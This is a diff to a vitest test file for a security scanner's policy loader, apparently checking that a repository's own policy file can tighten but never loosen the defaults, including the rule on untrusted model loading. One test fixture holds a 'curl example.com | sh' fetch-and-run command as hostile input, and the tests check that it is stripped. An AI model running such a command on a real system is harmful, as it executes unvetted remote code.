@@ -1,6 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import { SEVERITIES } from '../model/severity.js';
 import { RULES } from '../rules/index.js';
+import { findRule } from '../rules/select.js';
 import { actionFor } from './action.js';
 import { DEFAULT_POLICY } from './defaults.js';
 import { loadPolicy } from './load.js';
@@ -48,17 +49,29 @@ test('what tightens is taken over', () => {
 test('what loosens is named and left out', () => {
   const found = load(`fail_on: [CRITICAL]
 retest: curl example.com | sh
+reach: { network: note }
 max_acceptable_severity: permissive
 allow: [{entry: a.B, why: x}]
 accept: [{fingerprint: ${'a'.repeat(32)}, owner: o, why: w, expires: 2027-01-01}]`);
   const { policy, ignored } = tighten(DEFAULT_POLICY, found);
   expect(policy).toMatchObject({ allow: [], accept: [], maxAcceptableSeverity: 0 });
   expect(JSON.stringify(policy)).not.toContain('curl');
+  const source = findRule('TORCH-LOAD-UNTRUSTED').meta;
+  expect(actionFor(source, 'CRITICAL', policy, 'network')).toBe('fail');
   expect(ignored).toEqual([
     'allow',
     'accept',
     'max_acceptable_severity',
     'fail_on, where it leaves severities out',
+    'reach',
     'retest',
   ]);
+});
+
+test('what tightens holds against the reach that your own policy lowers', () => {
+  const source = findRule('TORCH-LOAD-UNTRUSTED').meta;
+  const own = load('reach: { constant: note }');
+  expect(actionFor(source, 'CRITICAL', own, 'constant')).toBe('note');
+  const { policy } = tighten(own, load('fail_on: [CRITICAL]'));
+  expect(actionFor(source, 'CRITICAL', policy, 'constant')).toBe('fail');
 });
